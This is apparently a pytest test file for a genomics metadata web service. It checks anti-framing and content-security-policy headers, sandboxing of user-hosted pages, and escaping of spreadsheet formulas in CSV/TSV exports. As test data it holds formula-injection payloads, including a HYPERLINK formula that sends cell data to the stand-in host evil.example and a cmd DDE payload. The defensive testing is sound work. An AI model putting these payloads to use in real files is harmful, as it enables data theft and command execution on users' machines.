"""Security headers on every response (anti-framing, a CSP; the web storage's sandbox), and CSV/TSV
exports that a spreadsheet cannot run as formulas (issue 19, items 3 and 13)."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re

import pytest

from genolog.metadata.spreadsheet import safe_cell
from genolog.paths import local_web_folder
from tests.metadata.support import Api
from tests.web.support import Site, signed_in

FORMULA = '=HYPERLINK("https://evil.example/?"&A2, "open")'


def directives(policy: str) -> dict[str, list[str]]:
    parsed = {}
    for part in policy.split(";"):
        name, *values = part.split()
        parsed[name] = values
    return parsed


def test_pages_and_answers_may_not_be_framed_and_carry_a_policy(site: Site) -> None:
    reader = signed_in(site.api, "reader")
    for response in (
        reader.get("/"),
        reader.get("/projects/proj"),
        reader.get("/signin"),
        reader.get("/projects/nope"),  # an error page too
        site.api.call("GET", "/api/v1/project/", user="reader"),
    ):
        assert response.headers["x-frame-options"] == "DENY", response.url
        assert response.headers["x-content-type-options"] == "nosniff"
        policy = directives(response.headers["content-security-policy"])
        assert policy["frame-ancestors"] == ["'none'"]
        assert policy["script-src"] == ["'self'"] and policy["style-src"] == ["'self'"]
        assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'none'"]
    page = reader.get("/projects/proj").text  # and the page has nothing inline the policy would block
    assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son[a-z]+=", page)


@pytest.mark.parametrize("path", ["/graphql", "/docs"])
def test_tool_pages_allow_exactly_their_own_inline_script(api: Api, path: str) -> None:
    response = api.client.get(path)
    assert response.status_code == 200
    policy = directives(response.headers["content-security-policy"])
    inline = re.findall(r"<script>(.*?)</script>", response.text, re.DOTALL)
    assert len(inline) == 1
    digest = base64.b64encode(hashlib.sha256(inline[0].encode()).digest()).decode()
    assert policy["script-src"] == ["'self'", f"'sha256-{digest}'"]
    assert policy["frame-ancestors"] == ["'none'"] and "'unsafe-inline'" not in policy["script-src"]


def test_web_storage_is_served_in_a_sandbox_without_the_apps_origin(site: Site) -> None:
    folder = local_web_folder(site.api.svc.settings.data_dir, "proj")
    folder.mkdir(parents=True)
    (folder / "report.html").write_text("<script>fetch('/projects/proj/members')</script>")
    (folder / "plot.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>')
    reader = signed_in(site.api, "reader")
    for name in ("report.html", "plot.svg"):
        response = reader.get(f"/web/proj/{name}")
        assert response.status_code == 200
        policy = response.headers["content-security-policy"]
        sandbox = directives(policy)["sandbox"]
        assert "allow-scripts" in sandbox and "allow-same-origin" not in sandbox
        assert "allow-top-navigation" not in sandbox
        assert response.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1", "'\r=1"),
        ("-9", "-9"),  # PLINK's missing phenotype: a number, left for the tools that parse it
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-5", "-1e-5"),
        ("-", "-"),  # one character cannot be a formula
        ("fam-1", "fam-1"),
        ("a=b", "a=b"),
        ("", ""),
        (-9, -9),
        (None, None),
    ],
)
def test_a_cell_is_neutralized_only_when_a_spreadsheet_would_run_it(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_the_samples_export_writes_formulas_as_text(site: Site) -> None:
    site.api.ok(
        "PUT",
        "/participant/proj/upsert-many",
        json=[
            {
                "external_ids": {"": "P9"},
                "samples": [{"external_ids": {"": FORMULA}, "type": "blood", "meta": {"note": "=1+1"}}],
            }
        ],
    )
    reader = signed_in(site.api, "reader")
    for kind, delimiter in (("csv", ","), ("tsv", "\t")):
        text = reader.get(f"/projects/proj/samples.{kind}").text
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
        cells = {cell for row in rows for cell in row}
        assert "'" + FORMULA in cells and "'=1+1" in cells, rows
        assert FORMULA not in cells and "=1+1" not in cells
        assert "S1" in cells  # ordinary values unchanged


def test_the_pedigree_export_writes_formulas_as_text_and_keeps_ordinary_values(site: Site) -> None:
    ped = "#Family ID\tIndividual ID\tPaternal ID\tMaternal ID\tSex\tAffected\n"
    ped += f"FAM1\t{FORMULA}\t0\t0\t1\t2\n-fam\tP1\t0\t0\t2\t-9\n"
    site.api.ok(
        "POST",
        "/family/proj/pedigree",
        params={"create_missing_participants": True, "has_header": True},
        files={"file": ("ped.tsv", ped.encode(), "text/tab-separated-values")},
    )
    for kind, delimiter in (("csv", ","), ("tsv", "\t")):
        text = site.api.call("GET", "/family/proj/pedigree", params={"export_type": kind}).text
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))[1:]
        by_individual = {row[1]: row for row in rows}
        assert by_individual["'" + FORMULA][0] == "FAM1", rows
        assert by_individual["P1"][0] == "'-fam" and by_individual["P1"][5] == "-9", rows
    # PED (PLINK's format, read by tools, not spreadsheets) keeps ids exactly
    plain = site.api.call("GET", "/family/proj/pedigree", params={"export_type": "ped"}).text
    assert f"FAM1\t{FORMULA}\t0\t0\t1\t2\n-fam\tP1\t" in plain
